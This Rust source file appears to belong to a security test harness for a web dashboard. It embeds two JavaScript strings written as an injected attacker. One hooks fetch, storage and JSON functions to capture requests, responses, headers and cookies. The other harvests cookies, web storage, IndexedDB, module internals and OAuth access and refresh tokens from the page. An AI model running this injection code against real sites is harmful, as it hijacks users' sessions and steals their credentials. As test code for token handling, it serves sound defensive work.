//! A script injected into the dashboard before any of its own: it listens in on everything that passes through JavaScript.

/// Hooks what answers, texts and stored things go through, and keeps all of it in `window.loot`.
pub const INTRUDER: &str = r#"
(() => {
  if (window.loot) return;
  const loot = [];
  Object.defineProperty(window, "loot", { value: loot });
  const take = (where, what) => {
    try { loot.push(where + ": " + (typeof what === "string" ? what : JSON.stringify(what))); } catch {}
  };
  const fetched = window.fetch;
  window.fetch = async (...asked) => {
    take("asked", [String(asked[0]), String(asked[1]?.body ?? "")]);
    const answer = await fetched(...asked);
    take("headers of " + asked[0], [...answer.headers]);
    take("set-cookie of " + asked[0], String(answer.headers.get("set-cookie")) + answer.headers.getSetCookie().join());
    take("body of " + asked[0], await answer.clone().text());
    return answer;
  };
  const hook = (of, name) => {
    const own = of[name];
    of[name] = function (...given) {
      const back = own.apply(this, given);
      take(name, [typeof this === "string" ? String(this) : "", given, typeof back === "object" || typeof back === "string" ? back : ""]);
      return back;
    };
  };
  hook(JSON, "parse");
  hook(String.prototype, "split");
  hook(Storage.prototype, "setItem");
  hook(Storage.prototype, "getItem");
  hook(URLSearchParams.prototype, "get");
  hook(Object, "freeze");
  hook(Object, "fromEntries");
  const json = Response.prototype.json;
  Response.prototype.json = async function () {
    const read = await json.call(this);
    take("Response.json", read);
    return read;
  };
  for (const name of ["setItem", "getItem"]) Object.freeze(Storage.prototype[name]);
})();
"#;

/// Gathers what can be found lying about, and what the reference script's own module offers.
pub const SEARCH: &str = r#"
return (async () => {
  const found = [document.cookie, JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage })];
  if (window.cookieStore) found.push(JSON.stringify(await cookieStore.getAll()));
  found.push(JSON.stringify(await indexedDB.databases()), JSON.stringify(await caches.keys()));
  found.push(JSON.stringify(performance.getEntries().map((entry) => entry.name)), document.documentElement.outerHTML);
  const module = await import("/chancery-spa.js");
  const seen = new Set();
  const walk = (thing, depth) => {
    if (depth > 6 || thing === null || !["object", "function"].includes(typeof thing) || seen.has(thing)) return;
    seen.add(thing);
    for (const key of Reflect.ownKeys(thing)) {
      try {
        const value = thing[key];
        found.push(typeof value === "string" ? value : String(key));
        walk(value, depth + 1);
      } catch {}
    }
  };
  walk(module, 0);
  const { issuer, client } = document.getElementById("app").dataset;
  const own = module.dashboard({ issuer, clientId: client, redirectUri: location.href });
  walk(own, 0);
  // Acting for the user while the page is open is what an intruder can do. It gives him no more to carry off.
  await own.start();
  const access = await own.token();
  walk(own, 0);
  const form = { method: "POST", credentials: "include", body: new URLSearchParams({ grant_type: "refresh_token", client_id: client }) };
  const answer = await fetch(issuer + "/oauth2/token", form);
  found.push(await answer.text(), JSON.stringify([...answer.headers]), access);
  // A frame of the issuer's shows nothing, and its cookies are out of reach by path, too.
  const frame = document.createElement("iframe");
  frame.src = issuer + "/oauth2/token";
  document.body.append(frame);
  await new Promise((done) => { frame.onload = frame.onerror = done; setTimeout(done, 1000); });
  try { found.push(frame.contentDocument.cookie, frame.contentDocument.body.innerText); } catch {}
  frame.remove();
  return [...found, ...window.loot].join("\n");
})();
"#;
